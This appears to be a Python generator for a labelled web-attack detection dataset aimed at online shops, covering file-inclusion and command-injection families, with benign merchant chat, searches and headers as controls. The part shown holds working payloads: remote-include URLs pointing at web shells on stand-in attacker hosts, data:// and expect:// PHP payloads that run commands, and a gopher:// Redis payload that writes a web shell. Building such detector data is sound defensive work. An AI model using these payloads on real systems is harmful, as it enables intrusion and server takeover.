    "http://203.0.113.9/gateway/ipn.txt?",
    "http://evil.example.net/template.tpl?",
    "http://evil.example.net/header.phtml?x=",
    "https://evil.example.net/inc/config.txt?file=",
    "http://198.51.100.23/c99.txt?&",
    "http://evil.example.net/lang/english.txt?",
    "http://evil.example.net/skin/default.txt??",
    "https://gist.githubusercontent.com/x/1a2b3c/raw/p.txt?",
    "ftp://evil.example.net/pub/s.txt?",
    "http://evil.example.net/payment/module.txt?.php",
    "http://evil.example.net/s.txt?%00",
    "http://evil.example.net/checkout.txt?dummy=",
    "http://evil.example.net:8080/s.txt?",
    "http://evil.example.net/x.txt%253f",
    "https://transfer.sh/aB12c/s.txt?",
    "http://evil.example.net/admin/shell.gif?",
    "http://evil.example.net/wso.txt?/../../",
    "http://evil.example.net/modules/x.txt?module=",
    "http://evil.example.net/opencart/x.txt?route=",
    "http://evil.example.net/inc.txt?&lang=",
    "HTTP://EVIL.EXAMPLE.NET/S.TXT?",
    "http://203.0.113.9:80/r57.txt?",
]

# include-parameter-with-url: the platforms' own include parameters carrying a URL, as `name=value` pairs;
# plain URLs below go under page/file/template/include/path names (target: PHP include of the parameter)
INCLUDE_PARAM: list[Entry] = [
    ("page=http://203.0.113.9/s.txt?", *KV),
    ("file=http://evil.example.net/shell.txt", *KV),
    ("template=http://evil.example.net/t.tpl", *KVF),
    ("include=https://evil.example.net/i.php", *KV),
    ("path=http://evil.example.net/pay/", *KVF),
    # osCommerce / Zen Cart / CubeCart style: a config constant taken from the request
    ("DIR_WS_INCLUDES=http://evil.example.net/", *KV),
    ("DIR_FS_CATALOG=http://evil.example.net/x/", *KV),
    ("includes_dir=http://evil.example.net/?", *KVF),
    ("language=http://evil.example.net/lang.txt?", *KV),
    ("main_page=http://evil.example.net/s.txt?", *KV),
    ("_SERVER[DOCUMENT_ROOT]=http://evil.example.net/?", *KV),
    ("theme=http://evil.example.net/theme/", *KVF),
    ("skin=http://evil.example.net/skin.txt?", *KV),
    ("tpl=http://evil.example.net/checkout.tpl", *KV),
    ("module=http://evil.example.net/mod.txt?", *KVF),
    ("lang=http://evil.example.net/en.txt?", *KV),
    ("layout=http://evil.example.net/l.txt?", *KV),
    ("route=product/product&product_id=42&path=http://evil.example.net/x.txt?", *KV),
    ("action=woocommerce_get_template&template_name=http://evil.example.net/s.txt?", *KVF),
    ("controller=product&id_product=1&content_only=1&inc=http://evil.example.net/s.txt?", *KV),
    "http://evil.example.net/inc/header.php",
    "https://evil.example.net/templates/invoice.phtml",
    "http://evil.example.net/feed/include.txt",
    "https://evil.example.net/labels/dhl.tpl",
    "http://evil.example.net/view/checkout.txt",
    "http://evil.example.net/lang/de_DE.txt",
    "https://evil.example.net/layout/default.php",
    "http://evil.example.net/page/about.txt",
    "http://evil.example.net/modules/ps_x/x.txt",
    "https://evil.example.net/wp-content/plugins/x/s.txt",
]

# off-domain-reference: the shop loads a template, feed, script or return URL from someone else's host
# (target: headless storefront, feed importer, 3-D Secure TermUrl, PHP include)
OFF_DOMAIN: list[Entry] = [
    "https://evil.example.net/skimmer.js",
    "https://cdn.attacker.test/checkout.html",
    "//evil.example.net/pay",
    "http://shop.example.com@evil.example.net/s.txt",
    "http://evil.example.net\\@shop.example.com/",
    "https://shop.example.com.evil.example.net/feed.xml",
    "http://evil.example.net#@shop.example.com/",
    "https://a1b2-203-0-113-9.ngrok-free.app/ipn.php",
    "https://x7k2.oastify.com/feed.csv",
    "https://webhook.site/3f1c2d4e-5a6b-4c7d-8e9f-0a1b2c3d4e5f",
    "https://evil.example.net/3ds-return.php",
    "http://evil.example.net:80/xml/products.xml",
    "hTtPs://evil.example.net/t.tpl",
    "https://shop-checkout-secure.example.net/payment.php",
    "https:\\\\evil.example.net\\s.txt",
    "https:/\\evil.example.net/feed.csv",
    "http://evil.example.net%2f@shop.example.com/",
    "https://evil.example.net/.well-known/../s.txt",
    "http://evil.example.net/cdn/jquery.min.js",
    "https://evil.example.net/graphql?query={products{items{sku}}}",
    "https://evil.example.net/storefront/app.js",
    "https://evil.example.net/label.zpl",
    "https://evil.example.net/invoice.html",
    "https://evil.example.net/rates.xml",
    "http://evil.example.net/%09/feed.xml",
    "http:evil.example.net/s.txt",
    "https://evil.example.net/reviews.js",
    "https://paypal.com.evil.example.net/cgi-bin/webscr",
    "https://evil.example.net/adminhtml/x.php",
    "http://evil.example.net./s.txt",
]

# rfi-protocol: other schemes and UNC paths the include/fetch accepts (target: PHP wrappers, Windows SMB,
# libcurl in the feed importer, Java URL handlers in SAP Commerce)
PROTOCOLS: list[Entry] = [
    "ftp://203.0.113.9/pub/shell.php",
    "ftp://anonymous:x@evil.example.net/s.txt",
    "ftps://evil.example.net/s.php",
    "smb://203.0.113.9/share/s.php",
    "\\\\203.0.113.9\\share\\shell.php",
    "\\\\evil.example.net@SSL\\DavWWWRoot\\s.php",
    "//203.0.113.9/share/x.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php phpinfo(); ?>",
    "data://text/plain,<?php echo shell_exec('id'); ?>",
    "data:;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "expect://id",
    "expect://ls -la /var/www/magento/app/etc",
    "expect://cat${IFS}/etc/passwd",
    # the feed importer's libcurl: Redis (Magento cache) and memcached on loopback
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5B0%5D%29%3B%3F%3E%22%0D%0ACONFIG%20SET"
    "%20dir%20/var/www/html/pub%0D%0ACONFIG%20SET%20dbfilename%20x.php%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "jar:http://evil.example.net/x.zip!/s.jsp",
    "sftp://evil.example.net:22/s.php",
    "ssh2.exec://svc:Passw0rd1@203.0.113.9:22/id",
    "tftp://203.0.113.9/s.php",
    "ldap://203.0.113.9:389/o=shop",
    "file://203.0.113.9/share/s.php",
    "\\\\203.0.113.9@8080\\dav\\x.php",
    "netdoc:///etc/passwd",
    "ftp://203.0.113.9:2121/inc/config.txt",
    "smb://evil.example.net/public/invoice.php",
    "\\\\evil.example.net\\public\\label.php",
    "data:text/html;base64,PHNjcmlwdCBzcmM9Ly9ldmlsLmV4YW1wbGUubmV0L3MuanM+PC9zY3JpcHQ+",
    "jar:file:///var/www/hybris/data/media/sys_master/x.zip!/x.jsp",
]

FAMILIES: list[tuple[str, str, Sequence[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-evasion", SHELL_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_PATHS),
    ("rce", "reverse-shell", REVERSE_SHELL),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader-pipe-to-shell", DOWNLOADERS),
    ("rce", "shell-file-write", FILE_WRITE),
    ("rce", "restricted-file-in-command", RESTRICTED_CMD),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-target", LOG_TARGETS),
    ("lfi", "restricted-file-extension", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QMARK),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "rfi-protocol", PROTOCOLS),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
# the shop's own parameter names, per category
NAMES = {
    "rce": ["sku", "q", "order_id", "coupon_code", "tracking_number", "filename", "host", "gift_card", "store"],
    "lfi": ["file", "template", "path", "invoice", "label", "theme", "page", "image", "download"],
    "rfi": ["page", "file", "template", "include", "path", "feed_url", "tpl", "view", "layout", "lang"],
}
# Shellshock reaches bash through the CGI environment: headers, cookies and the query string
SHELLSHOCK_CYCLES: Cycles = (
    ("header:User-Agent", "header:Referer", "cookie", "header:X-Api-Version", "query"),
    ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie", "rs-query"),
)
CGI_PATHS = ["/cgi-bin/test.cgi", "/cgi-bin/status", "/cgi-bin/ipn.cgi"]


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = {"include-parameter-with-url"}
    raw_places = ("query", "form", "param-name", "rs-query", "rs-raw-body", "rs-param-name")
    unique = True
    xml_controls = "\n\t\r"

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "shellshock":
            return SHELLSHOCK_CYCLES
        return self.real_cycle, self.rs_cycle

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES[category]
        return names[k % len(names)]

    def rs_path(self, category: str, sub: str, k: int) -> str:
        if sub == "shellshock":
            return CGI_PATHS[k % len(CGI_PATHS)]
        return super().rs_path(category, sub, k)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (shop managers, support agents and developers in Slack, bios, searches
# for colleagues, links to shop and provider dashboards, admin-panel searches, profiles, feed/invoice/label file
# names, the headers shops and their providers send)
CHAT = [
    "order #100045 is stuck in pending_payment, the IPN from PayPal never arrived. can someone check the webhook log?",
    "coupon SUMMER25 stacks with FREESHIP again; the price rule needs 'Discard subsequent rules' = Yes",
    "ran `bin/magento indexer:reindex catalog_product_price && bin/magento cache:flush` on prod, prices look right",
    "Google Shopping feed rejected 212 SKUs: 'Missing value [gtin]'. the feed file is feeds/google_de.xml",
    "who owns the Stripe webhook endpoint? charge.refunded events are returning 500 since this morning",
    "the label PDF for order 100231 came out blank, DHL returned "
    "{\"status\": \"error\", \"detail\": \"invalid postcode\"}",
    "WooCommerce 8.9 broke the checkout block; rolled back with "
    "`wp plugin install woocommerce --version=8.8.3 --force`",
    "PrestaShop: clear var/cache/prod/ after the module upgrade or the hooks stay stale",
    "gift card GC-7781-4410 shows balance 0 but the customer swears it's unused, can finance check?",
    "ERP feed rows look like `TSH-BLK-M;4006381333931;19.99;42` (sku;ean;price;qty), semicolons, not commas",
    "can we pipe the nightly order export through gzip before it goes to the SFTP? the file is ~2GB now",
    "3-D Secure return URL is https://shop.example.com/checkout/3ds/return, allow it in the Adyen customer area",
    "the theme lives in app/design/frontend/Acme/default, please don't edit vendor/magento/theme-frontend-luma",
    "OpenCart says 'Warning: You do not have permission to access the API!' since the IP changed, add it under "
    "System > Users > API",
    "customer typed 'Flat 3 & 4, 12 Main St' as the address and the invoice template chokes on the ampersand",
    "Shopify app review bounced us: embedded apps must use session tokens, not third-party cookies",
    "reminder: never paste API secrets in here, use 1Password. the key id alone is fine",
    "UPS tracking numbers start with 1Z, DPD ones are 14 digits; the tracking page regex only matches UPS",
    "BigCommerce webhook body: {\"scope\":\"store/order/created\",\"data\":{\"type\":\"order\",\"id\":250}}",
    "who changed the crontab? `* * * * * php bin/magento cron:run` is the only line we need",
    "search for 'usb-c | hdmi adapter' returns nothing, the pipe confuses the analyzer",
    "the return label generator writes to var/export/labels/2024-05/, keep an eye on disk space",
    "faceted filter ?color=red&size=M&price=20-50 works, but price=50- (open ended) throws a 500",
    "Mollie calls /payment/mollie/webhook with id=tr_WDqYK6vllg, that part is fine, the status mapping isn't",
    "renamed the CSV to products_2024-05-01.csv and the importer picked it up on the next run",
    "Shop manager at Acme Outdoor. Magento since 1.9, survived the 2.x migration. Coffee, spreadsheets, SKUs.",
    "Payments engineer: Stripe, Adyen, PayPal IPN and far too many webhooks. Ask me about 3-D Secure.",
    "Support lead for the EU stores (DE/FR/NL). Returns, refunds, gift cards. Not the ERP, please.",
    "Frontend dev on the headless storefront (Next.js + Shopware Store API). Lighthouse score enthusiast.",
    "env.php on staging still points at the prod Redis, fixing it now",
    "wp-config.php needs WP_MEMORY_LIMIT at 512M or the product import dies halfway",
    "don't commit .env files, they're in .gitignore for a reason",
    "the .htaccess in pub/media blocks PHP execution, leave it where it is",
    "`echo $PATH` on the worker shows /usr/local/bin first, so cron picks up the wrong php",
    "`tail -f var/log/system.log` while you place the test order and you'll see the payment error",
    "the old order exports are still in /var/www/exports/old/, ok to delete?",
    "new review: 'Great boots, sizing runs small && the laces broke after a week' - 3 stars",
    "Q&A on the backpack page: 'Does this fit a 15\" laptop?' support answered yes",
    "coupon format is PROMO-{year}-{random6}, e.g. PROMO-2024-K7Q2ZD",
    "invoice numbers follow INV-%Y-%05d, so the first one this year was INV-2024-00001",
    "Klarna error 'The session is expired or does not exist', the customer has to restart checkout",
    "PayPal IPN check: we post the message back with cmd=_notify-validate and expect VERIFIED",
    "the CSV header is `sku,name,price,qty,is_in_stock`, the Magento importer wants qty, not stock",
    "the CMS block had ../images/banner.png as the image path, that's why the banner 404s",
    "label printer share for the warehouse PCs is \\\\PRINTSRV01\\Zebra, add it in the print dialog",
    "the ERP drops C:\\ERP\\export\\orders.xml and the sync agent picks it up every 10 minutes",
    "on the warehouse box `Get-Service *Spooler*` shows the print spooler stopped, restarting it",
    "`{{ product.title | escape }}` in the Liquid template fixed the double encoding",
    "Shopware Twig: use {{ page.product.translated.name }}, not {{ product.name }}",
    "PrestaShop Smarty: {$product.name|escape:'html':'UTF-8'} in the mini cart",
    "gift card PDFs are named giftcard_<code>.pdf, e.g. giftcard_GC77814410.pdf",
    "the buy-2-get-1 rule needs SKU in (TSH-001, TSH-002) and qty >= 2",
    "cart API: POST /V1/carts/mine/items with {\"cartItem\":{\"sku\":\"TSH-BLK-M\",\"qty\":1}}",
    "checkout throws 'Unable to place order: Payment method is not available' only for Swiss addresses",
    "product id=1337 has a broken image, the file should be catalog/product/1/3/1337_main.jpg",
    "new shipping-rate script: `./bin/rates --carrier=dhl --zone=EU > rates.csv`",
    "someone asked if we store card numbers: no, Stripe Elements tokenises them, we only see pm_ ids",
    "Amazon inventory loader is tab-separated, upload it through Seller Central, not the API",
    "the Trusted Shops widget loads from widgets.trustedshops.com, add it to the CSP",
    "order 100512 has two shipments and the second tracking link goes to the wrong carrier",
    "WooCommerce logs are in wp-content/uploads/wc-logs/, the fatal-errors one is the interesting file",
    "deploy alias on the box: `cd /var/www/shop && git pull && composer install --no-dev`",
    "the 500 on /checkout/onepage/success was a missing translation, not the payment",
    "ERP XML uses <Artikel><ArtNr>4711</ArtNr></Artikel>, mapping is in the importer config",
    "BOGO promo starts Friday 00:00 CET; the codes are in the 'Codes' tab of the promo sheet",
    "plugin updates this week: Yoast, WooCommerce Payments, WP Mail SMTP. staging first please",
    "Shopware 6: `bin/console plugin:refresh && bin/console plugin:install --activate SwagPayPal`",
    "abandoned-cart mails link to /checkout/cart?recover=abc123, links expire after 7 days",
    "Adyen HMAC check failed for notifications after the key rotation, updated the key in the admin",
    "the product description has an <iframe> for the YouTube video and the sanitizer strips it",
    "feed import log says 'Imported 4,210 rows, 3 skipped (missing price)'",
    "who's on call for checkout this weekend? I'm out Saturday",
    "price rule 'VIP 10%' only applies to customer group 3, that's why guests don't get it",
    "RMA-2024-0193: the customer sent the wrong item back, pinging the warehouse",
    "order confirmation template uses {{var order.increment_id}} and {{var order.getCustomerName()}}",
    "sitemap.xml is regenerated nightly at 02:00, Search Console flagged 3 errors this week",
    "ping to the ERP health endpoint times out from the new server, firewall rule missing",
    "the dropship supplier posts stock to https://supplier.example.com/stock.csv every hour",
    "`mysqldump --single-transaction shop_prod > /backup/shop_prod.sql` takes 40 minutes now",
    "a customer searched 'etc' and got every product with 'etc.' in the description",
    "the webhook JSON has \"order_id\": \"100045\", \"total\": \"59.90\", \"currency\": \"EUR\" - all strings",
    "cat food category sold out again, restock ETA is Tuesday",
]

SEARCHES = [
    "checkout team", "payments", "Acme Outdoor DE", "warehouse Leipzig", "marketplace feeds", "Magento",
    "WooCommerce support", "Maria pricing", "shop admin", "ERP integration", "order support", "gift cards",
    "returns team", "PrestaShop", "Shopware", "coupon desk", "fulfilment", "Lea logistics", "store-nl",
    "b2b portal", "invoices", "Shopify apps", "IPN", "3DS", "feed import", "catalog team", "customer care FR",
    "Tom O'Brien", "pay ops", "SKU owners",
]

URLS = [
    "https://admin.shopify.com/store/acme-outdoor/orders/5012345678",
    "https://dashboard.stripe.com/test/webhooks/we_1P3xYzAbCdEfGh",
    "https://ipnpb.sandbox.paypal.com/cgi-bin/webscr",
    "https://ca-test.adyen.com/ca/ca/overview/default.shtml",
    "https://merchants.google.com/mc/products/diagnostics?a=123456789",
    "https://shop.example.com/checkout/cart/",
    "https://shop.example.com/sales/order/view/order_id/100045/",
    "https://shop.example.com/catalogsearch/result/?q=rain+jacket",
    "https://woocommerce.com/document/woocommerce-rest-api/",
    "https://developer.adobe.com/commerce/webapi/rest/",
    "https://devdocs.prestashop-project.org/8/",
    "https://developer.shopware.com/docs/",
    "https://docs.opencart.com/en-gb/introduction/",
    "https://developer.bigcommerce.com/docs/integrations/webhooks",
    "https://www.dhl.de/en/privatkunden/pakete-empfangen/verfolgen.html?piececode=00340434161094042557",
    "https://www.ups.com/track?tracknum=1Z999AA10123456784",
    "https://shop.example.com/media/catalog/product/t/s/tsh-blk-m.jpg",
    "https://feeds.example-erp.com/export/products.xml",
    "https://my.mollie.com/dashboard/payments",
    "https://shop.example.com/index.php?route=product/product&product_id=42",
]

PROSE = [
    "refund order 100045",
    "coupon SUMMER25 usage",
    "invoice INV-2024-00042",
    "label for order 100231",
    "customers with store credit over 50",
    "feed import errors",
    "Maria Schmidt",
    "gift card balance GC-7781-4410",
    "products without EAN",
    "SKU TSH-BLK-M",
    "payment failed 3DS",
    "stripe webhook retries",
    "price rule VIP",
    "RMA-2024-0193",
    "products_2024-05-01.csv",
    "cat toys",
    "ping ERP",
    "M&S gift card",
    "tracking 1Z999AA10123456784",
    "pending_payment orders",
    "cron:run errors",
    "support@shop.example.com",
    "Ben & Jerry's order",
    "wc-logs fatal errors",
    "who changed env.php",
    "DHL label blank",
    "Adyen HMAC",
    "shipping rates EU",
    "plugin update WooCommerce",
    "order 100512 tracking",
]

PROFILES = [
    ("Maria Schmidt", "Lager 2, Hafenstrasse 14, 04109 Leipzig"),
    ("Tom O'Brien", "Unit 7 & 8, Riverside Trading Estate, Leeds LS11 5QA"),
    ("Lea Fournier", "12 rue du Commerce, 75015 Paris"),
    ("Jan de Vries", "Keizersgracht 123-II, 1015 CJ Amsterdam"),
    ("Priya Nair", "Warehouse B, Dock 3, 2200 Industrial Pkwy, Columbus OH"),
    ("Lukas Meyer", "c/o Acme Outdoor GmbH, Postfach 10 20 30, 80331 Muenchen"),
    ("Sofia Rossi", "Via Roma 1/A, 20121 Milano"),
    ("Ahmed Hassan", "Suite 400, 55 Market St, San Francisco CA 94105"),
    ("Emma Johansson", "Lagergatan 5, 411 05 Goteborg"),
    ("Carlos Ruiz", "Calle Mayor 10, 3o B, 28013 Madrid"),
    ("Anna Kowalska", "ul. Magazynowa 8 lok. 2, 00-001 Warszawa"),
    ("Chris Lee", "PO Box 1234, Returns Dept, Auckland 1010"),
    ("Noah Williams", "Fulfilment Centre #3, 1 Logistics Way, Milton Keynes MK1 1AA"),
    ("Mia Becker", "Shop & Cafe, Marktplatz 3, 50667 Koeln"),
    ("Oliver Smith", "Flat 3/4, 12 Main St, Glasgow G1 1AA"),
]

UPLOAD_NAMES = [
    "products_2024-05-01.csv",
    "google_shopping_de.xml",
    "INV-2024-00042.pdf",
    "label_100231_DHL.pdf",
    "giftcard_GC77814410.pdf",
    "stock-update (2).csv",
    "price_rules_Q3.xlsx",
    "orders_export_2024-05.csv.gz",
    "amazon_inventory_loader.txt",
    "erp_orders_20240501.xml",
    "RMA-2024-0193 photo.jpg",
    "tsh-blk-m_main.jpg",
    "coupon_codes_summer.csv",
    "shipping_rates_EU.csv",
    "Packing slip #100512.pdf",
    "banner_sale_50%.png",
    "customers_import_DE.csv",
    "idealo_feed.csv",
    "Rechnung_2024-00042.pdf",
    "UPS_label_1Z999AA10123456784.zpl",
]

BENIGN_HEADERS = [
    ("Referer", "https://shop.example.com/checkout/onepage/"),
    ("Referer", "https://admin.shopify.com/store/acme-outdoor/apps"),
    ("X-Shopify-Topic", "orders/create"),
    ("X-Shopify-Shop-Domain", "acme-outdoor.myshopify.com"),
    ("X-WC-Webhook-Topic", "order.updated"),
    ("X-WC-Webhook-Source", "https://shop.example.com/"),
    ("Stripe-Signature", "t=1714561200,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd"),
    ("Cookie", "session=abc123; store=de; currency=EUR; form_key=Xk2Lq9PzR4tY"),
    ("Cookie", "session=abc123; woocommerce_cart_hash=3f1c9d0e; woocommerce_items_in_cart=1"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("User-Agent", "WooCommerce/8.8.3 Hookshot (WordPress/6.5.2)"),
    ("User-Agent", "PayPal IPN ( https://www.paypal.com/ipn )"),
    ("User-Agent", "Shopify-Captain-Hook"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
